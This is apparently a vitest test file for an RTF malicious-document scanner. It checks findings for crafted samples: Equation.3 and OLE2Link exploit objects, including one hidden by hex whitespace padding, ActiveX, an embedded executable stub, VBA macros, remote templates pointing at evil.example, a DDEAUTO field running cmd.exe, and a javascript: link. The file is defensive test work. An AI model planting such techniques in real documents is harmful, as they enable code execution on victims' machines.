import { buildCfb } from '@test/builders/scan-samples';
import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Finding } from './finding';
import { scanRtf } from './scan-rtf';

const kinds = (findings: Finding[]) => findings.map((f) => `${f.kind}:${f.severity}`).sort();
const rtf = (body: string) => strToU8(`{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 Arial;}}${body}}`);
const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');

describe('scanRtf', () => {
  it('finds nothing in an ordinary resume', () => {
    const plain = rtf(
      '\\pard\\b Jane Doe\\b0\\par {\\field{\\*\\fldinst HYPERLINK "https://jane.dev"}{\\fldrslt jane.dev}}\\par',
    );
    expect(kinds(scanRtf(plain))).toEqual(['external-links:low']);
  });

  it('flags embedded objects, and auto-updating ones as high risk', () => {
    expect(
      kinds(scanRtf(rtf('{\\object\\objemb{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 0105000002000000}}'))),
    ).toEqual(['ole-object:medium']);
    const update = rtf(
      '{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 01050000}}',
    );
    expect(kinds(scanRtf(update))).toContain('auto-update-object:high');
  });

  it('flags exploited object classes and ActiveX', () => {
    const equation = rtf('{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}');
    expect(kinds(scanRtf(equation))).toContain('exploit-object:high');
    // The class name inside the object data, hex-encoded and padded with junk whitespace.
    const hidden = hex(
      strToU8('\u0001\u0005\u0000\u0000\u0002\u0000\u0000\u0000\u000b\u0000\u0000\u0000OLE2Link\u0000'),
    );
    const padded = hidden.replace(/(..)/g, '$1 \n');
    expect(kinds(scanRtf(rtf(`{\\object\\objemb{\\*\\objdata ${padded}}}`)))).toContain(
      'exploit-object:high',
    );
    expect(kinds(scanRtf(rtf('{\\object\\objocx{\\*\\objclass Forms.CommandButton.1}}')))).toContain(
      'activex:high',
    );
  });

  it('finds a program packaged inside the object data, in hex or \\bin form', () => {
    const program = strToU8('MZ\u0090\u0000This program cannot be run in DOS mode.\r\n');
    expect(kinds(scanRtf(rtf(`{\\object\\objemb{\\*\\objdata ${hex(program)}}}`)))).toContain(
      'embedded-executable:high',
    );
    const bin = new Uint8Array([
      ...strToU8(`{\\rtf1{\\object\\objemb{\\*\\objdata \\bin${program.length} `),
      ...program,
      0x7d,
      0x7d,
      0x7d,
    ]);
    expect(kinds(scanRtf(bin))).toContain('embedded-executable:high');
  });

  it('finds macros in a compound file embedded as object data', () => {
    const storage = buildCfb([
      { name: 'Macros', content: [{ name: 'VBA', content: [{ name: 'dir', content: new Uint8Array(4) }] }] },
    ]);
    expect(kinds(scanRtf(rtf(`{\\object\\objemb{\\*\\objdata 01050000${hex(storage)}}}`)))).toContain(
      'macro:high',
    );
  });

  it('refuses remote templates and only notes a local one', () => {
    expect(kinds(scanRtf(rtf('{\\*\\template http://evil.example/t.dotm}')))).toEqual([
      'external-template:high',
    ]);
    expect(kinds(scanRtf(rtf('{\\*\\template \\\\\\\\10.0.0.1\\\\share\\\\t.dot}')))).toEqual([
      'external-template:high',
    ]);
    expect(kinds(scanRtf(rtf('{\\*\\template C:\\\\Users\\\\jane\\\\Normal.dotm}')))).toEqual([
      'local-template:info',
    ]);
    expect(kinds(scanRtf(rtf('{\\*\\template file:///C:/Users/jane/Normal.dotm}')))).toEqual([
      'local-template:info',
    ]);
  });

  it('judges each template on its own: a remote one after a local one still refuses', () => {
    const both = rtf('{\\*\\template C:\\\\a.dot}{\\*\\template http://evil.example/x.dot}');
    expect(kinds(scanRtf(both)).sort()).toEqual(['external-template:high', 'local-template:info']);
  });

  it('finds DDE fields and remote includes', () => {
    const dde = rtf(
      '{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}',
    );
    expect(kinds(scanRtf(dde))).toEqual(['dde:high']);
    const include = rtf(
      '{\\field{\\*\\fldinst INCLUDEPICTURE "http://tracker.example/p.png" \\\\d}{\\fldrslt}}',
    );
    expect(kinds(scanRtf(include))).toEqual(['remote-content:medium']);
    const script = rtf('{\\field{\\*\\fldinst HYPERLINK "javascript:alert(1)"}{\\fldrslt x}}');
    expect(kinds(scanRtf(script))).toEqual(['dangerous-link:high']);
  });
});
